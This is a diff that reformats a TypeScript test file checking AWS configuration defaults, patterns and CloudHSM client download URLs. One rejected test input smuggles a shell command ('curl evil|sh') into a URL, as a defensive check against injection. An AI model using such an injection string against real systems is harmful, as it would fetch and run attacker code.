@@ -13,11 +13,13 @@ test("every range has min <= max and an AWS documentation page", () => {
 
 test("every default names its AWS page and a reason", () => {
   expect(defaults.length).toBeGreaterThanOrEqual(6);
-  for (const [name, d] of defaults) expect([name, AWS_DOC.test(String(d.doc)), (d.why ?? "").length > 0]).toEqual([name, true, true]);
+  for (const [name, d] of defaults)
+    expect([name, AWS_DOC.test(String(d.doc)), (d.why ?? "").length > 0]).toEqual([name, true, true]);
 });
 
 test("every pattern names its AWS page and says what is allowed", () => {
-  for (const [name, p] of patterns) expect([name, AWS_DOC.test(p.doc), p.allowed.length > 0]).toEqual([name, true, true]);
+  for (const [name, p] of patterns)
+    expect([name, AWS_DOC.test(p.doc), p.allowed.length > 0]).toEqual([name, true, true]);
 });
 
 test("defaults are values the rules allow", () => {
@@ -62,7 +64,10 @@ test.each([
 });
 
 test.each([
-  ["https://s3.amazonaws.com/cloudhsmv2-software/CloudHsmClient/Amzn2023/cloudhsm-cli-latest.amzn2023.x86_64.rpm", true],
+  [
+    "https://s3.amazonaws.com/cloudhsmv2-software/CloudHsmClient/Amzn2023/cloudhsm-cli-latest.amzn2023.x86_64.rpm",
+    true,
+  ],
   ["s3://my-mirror/cloudhsm/cloudhsm-cli.rpm", true],
   ["http://example.com/cloudhsm-cli.rpm", false],
   ["https://example.com/cli.rpm'; curl evil|sh; '", false],
